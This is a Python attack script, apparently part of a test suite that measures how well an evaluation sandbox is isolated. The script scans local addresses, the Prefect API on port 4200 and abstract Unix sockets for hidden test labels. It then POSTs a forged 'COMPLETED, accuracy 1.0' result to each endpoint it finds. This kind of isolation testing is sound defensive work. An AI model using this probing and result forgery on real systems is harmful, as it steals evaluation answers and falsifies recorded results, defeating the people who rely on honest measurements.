"""Route class: the host's network services (the Prefect API on 127.0.0.1, databases).

Asks every address it knows for labels: the URLs it is given (a stand-in for the Prefect API
serving run results), Prefect's default port 4200 on every local name, the host's own
addresses, and abstract Unix sockets by name; it also tries to write (POST) to each, as a
thief rewriting flow runs would. As an ``external`` script: ``python3 network_thief.py {inputs}
{outputs} _ext.py [URL | @SOCKET]...``; as a plugin, through ``attacks.omnivore``.

The stand-in server records every write it accepts, so the suite measures writes from outside.
"""
from __future__ import annotations

import json
import os
import socket
import sys
import urllib.request

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
try:
    from attacks import _ext
except ImportError:
    import _ext

DEFAULT_URLS = ("http://127.0.0.1:4200/api/labels", "http://localhost:4200/api/labels",
                "http://[::1]:4200/api/labels")
TIMEOUT_S = 1.0


def _host_addresses() -> list[str]:
    """Addresses of this machine's interfaces other than loopback (from /proc/net/fib_trie)."""
    found = []
    try:
        lines = open("/proc/net/fib_trie").read().splitlines()
    except OSError:
        return found
    for previous, line in zip(lines, lines[1:]):
        if "/32 host LOCAL" in line:
            address = previous.split()[-1]
            if not address.startswith("127."):
                found.append(address)
    return list(dict.fromkeys(found))


def _candidates(given: list[str]) -> list[str]:
    urls = [u for u in given if u.startswith("http")]
    ports = {u.rsplit(":", 1)[-1].split("/")[0] for u in urls} | {"4200"}
    for address in _host_addresses():
        urls += [f"http://{address}:{port}/api/labels" for port in ports]
    return list(dict.fromkeys([*urls, *DEFAULT_URLS]))


def _fetch(url: str, wanted: set[str], found: dict[str, int]) -> bool:
    """GET labels from ``url``; then POST to it. Returns whether the POST was accepted."""
    try:
        with urllib.request.urlopen(url, timeout=TIMEOUT_S) as response:
            _ext.labels_in_mapping(json.loads(response.read()), wanted, found)
    except Exception:  # noqa: BLE001 - blocked or refused: try the POST
        pass
    try:
        request = urllib.request.Request(url, data=b'{"state": "COMPLETED", "accuracy": 1.0}',
                                         method="POST",
                                         headers={"Content-Type": "application/json"})
        with urllib.request.urlopen(request, timeout=TIMEOUT_S) as response:
            return response.status < 300
    except Exception:  # noqa: BLE001 - blocked or refused alike
        return False


def _abstract(name: str, wanted: set[str], found: dict[str, int]) -> None:
    try:
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock:
            sock.settimeout(TIMEOUT_S)
            sock.connect("\0" + name)
            chunks = []
            while chunk := sock.recv(1 << 16):
                chunks.append(chunk)
        _ext.labels_in_mapping(json.loads(b"".join(chunks)), wanted, found)
    except Exception:  # noqa: BLE001 - blocked or refused alike
        pass


def find(given: list[str], wanted: set[str]) -> tuple[dict[str, int], bool]:
    """Labels found and whether any write was accepted."""
    found: dict[str, int] = {}
    wrote = False
    for url in _candidates(given):
        wrote |= _fetch(url, wanted, found)
    for name in [g[1:] for g in given if g.startswith("@")]:
        _abstract(name, wanted, found)
    return found, wrote


def main(argv: list[str]) -> None:
    inputs, outputs = argv[1], argv[2]
    ids, _ = _ext.test_split(inputs)
    found, _ = find(_ext.args_after(argv), set(ids))
    _ext.write_predictions(outputs, ids, _ext.predictions(ids, found))


if __name__ == "__main__":
    main(sys.argv)
